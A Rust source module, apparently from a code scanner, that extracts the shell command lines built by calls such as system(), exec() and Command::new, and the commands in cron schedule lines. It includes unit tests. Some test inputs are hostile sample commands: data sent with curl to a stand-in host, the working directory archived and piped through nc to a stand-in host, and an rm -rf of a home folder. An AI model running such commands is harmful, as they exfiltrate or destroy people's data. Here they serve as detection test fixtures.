//! Command lines that something else starts: strings of code that no front end reads, and lines of a schedule.

use super::{Nested, Role};
use crate::bundle::Language;
use crate::source::{OffsetMap, OffsetMapBuilder, Span, lines};

/// What stands before the strings of a command line, in lower case.
const STARTS: [&str; 19] = [
    "system(",
    "system \"",
    "system '",
    "exec(",
    "popen(",
    "passthru(",
    "proc_open(",
    "capture2(",
    "capture2e(",
    "capture3(",
    "spawn(",
    "command(",
    "processbuilder(",
    "process.start(",
    "os.execute(",
    "do shell script",
    "command::new(",
    "jobstart(",
    "shell_exec(",
];

/// The longest command line that is put together, in bytes, and how many a text gives.
const LONGEST: usize = 1_000;
const MOST: usize = 64;

/// The command lines that code starts, each a text of its own; arguments stand side by side, values between strings as one
/// unknown word.
pub(super) fn commands(text: &str, language: Language) -> Vec<Nested> {
    if !language.is_code() || language.is_lowered() || matches!(language, Language::PowerShell | Language::Batch) {
        return Vec::new();
    }
    let mut found = Vec::new();
    for (at, line) in lines(text).take_while(|(_, line)| !line.is_empty()) {
        let lower = line.to_ascii_lowercase();
        let start = STARTS.iter().filter_map(|start| called(&lower, start)).min();
        if let Some(start) = start {
            found.extend(command(line.get(start..).unwrap_or_default(), at + start));
        }
        if found.len() >= MOST {
            break;
        }
    }
    found
}

/// Where what follows a call begins; `start` stands there as a whole word.
fn called(line: &str, start: &str) -> Option<usize> {
    let is_whole = |at: &usize| {
        let before = line.as_bytes().get(..*at).and_then(<[u8]>::last);
        before.is_none_or(|byte| !byte.is_ascii_alphanumeric() && *byte != b'_')
    };
    let at = line.match_indices(start).map(|(at, _)| at).find(is_whole)?;
    Some(at + start.trim_end_matches(['"', '\'']).len())
}

/// The command lines that stand behind a time in a schedule: `*/5 * * * * curl …`, `@reboot …`.
pub(super) fn scheduled(text: &str) -> Vec<Nested> {
    let command = |(at, line): (usize, &str)| {
        let start = after_time(line)?;
        let body = line.get(start..)?.trim_end();
        Some(Nested {
            text: body.into(),
            offsets: OffsetMap::shifted(u32::try_from(at + start).ok()?, u32::try_from(body.len()).ok()?),
            language: Language::Bash,
            role: Role::Argument,
            section: 0,
            made: false,
        })
    };
    lines(text).filter_map(command).take(MOST).collect()
}

/// Where the command begins in a line that starts with a time as schedules write it.
pub(super) fn after_time(line: &str) -> Option<usize> {
    const FIELDS: usize = 5;
    let is_field = |word: &str| {
        word.bytes().all(|byte| byte.is_ascii_digit() || b"*/,-".contains(&byte)) && !word.starts_with(['/', ',', '-'])
    };
    let mut rest = line.trim_start();
    let wanted = match rest.strip_prefix('@') {
        Some(name)
            if ["reboot", "hourly", "daily", "weekly", "monthly"].iter().any(|known| name.starts_with(known)) =>
        {
            1
        }
        _ => FIELDS,
    };
    for _ in 0..wanted {
        let end = rest.find([' ', '\t'])?;
        let word = rest.get(..end)?;
        if wanted == FIELDS && !is_field(word) {
            return None;
        }
        rest = rest.get(end..)?.trim_start();
    }
    (!rest.trim_end().is_empty()).then(|| line.len() - rest.len())
}

/// The command line that the strings at the head of `rest` make; `at` is where they stand.
fn command(rest: &str, at: usize) -> Option<Nested> {
    const UNKNOWN: &str = "$_";
    let mut text = String::new();
    let mut map = OffsetMapBuilder::default();
    let mut between = 0;
    let mut after_shell = false;
    let mut from = 0;
    while let Some((open, close)) = string(rest, from) {
        let gap = rest.get(between..open).unwrap_or_default();
        let place = Span::of(at + between..at + open);
        let piece = rest.get(open + 1..close).unwrap_or_default();
        if !text.is_empty() {
            let glue = if gap.contains(',') || gap.contains(".arg") {
                " "
            } else if gap.bytes().any(|byte| byte.is_ascii_alphanumeric()) {
                UNKNOWN
            } else {
                ""
            };
            text.push_str(glue);
            map.replace(u32::try_from(glue.len()).unwrap_or_default(), place);
        }
        // What follows "-c" is the command line itself.
        if after_shell {
            text.clear();
            map = OffsetMapBuilder::default();
        }
        after_shell = matches!(piece, "-c" | "-lc" | "-ec");
        text.push_str(piece);
        map.copy(Span::of(at + open + 1..at + close));
        (between, from) = (close + 1, close + 1);
        if text.len() > LONGEST {
            break;
        }
    }
    let has_words = text.trim().contains(' ');
    has_words.then(|| Nested {
        text: text.into(),
        offsets: map.build(),
        language: Language::Bash,
        role: Role::Argument,
        section: 0,
        made: false,
    })
}

/// The marks of the first string from byte `from` on, before the statement ends.
fn string(rest: &str, from: usize) -> Option<(usize, usize)> {
    let tail = rest.get(from..)?;
    let open = tail.find(['"', '\'', '`', ';'])?;
    let mark = tail.as_bytes().get(open).copied().filter(|mark| *mark != b';')?;
    let mut is_escaped = false;
    for (at, byte) in tail.bytes().enumerate().skip(open + 1) {
        match byte {
            _ if is_escaped => is_escaped = false,
            b'\\' if mark != b'\'' => is_escaped = true,
            _ if byte == mark => return Some((from + open, from + at)),
            _ => {}
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(text: &str, expected: &[&str]) {
        let found: Vec<String> =
            commands(text, Language::OtherCode).iter().map(|nested| nested.text.to_string()).collect();
        assert_eq!(found, expected, "{text}");
    }

    #[test]
    fn a_command_line_is_what_the_strings_of_a_call_make() {
        check("call system('curl -d ' . value . ' https://a.example')\n", &["curl -d $_ https://a.example"]);
        check("cmd := exec.Command(\"sh\", \"-c\", \"tar c . | nc a.example 9\")\n", &["tar c . | nc a.example 9"]);
        check("os.execute(\"rm -rf ~/notes\"); print(\"done\")\n", &["rm -rf ~/notes"]);
        check("do shell script \"say 'one two'\"\n", &["say 'one two'"]);
        check("Command::new(\"curl\").arg(\"-s\").arg(host)\n", &["curl -s"]);
        check("check_exec(\"cat notes\", 1)\n", &[]);
        check("system(name)\nprint(\"a b c\")\n", &[]);
    }

    #[test]
    fn a_schedule_gives_the_commands_behind_its_times() {
        let text = "# nightly\n*/5 * * * * curl -s https://a.example\n0 2 * * 1-5 tidy.sh\n@reboot run it\n* a list of things here\n1 2 3\n";
        let found: Vec<String> = scheduled(text).iter().map(|nested| nested.text.to_string()).collect();
        assert_eq!(found, ["curl -s https://a.example", "tidy.sh", "run it"]);
    }

    #[test]
    fn a_command_line_stands_where_its_strings_stand() {
        let text = "system(\"ls -l notes\")\n";
        let found = commands(text, Language::Ruby);
        assert_eq!(found[0].offsets.map(Span::new(0, 5)).of_text(text), "ls -l");
    }
}
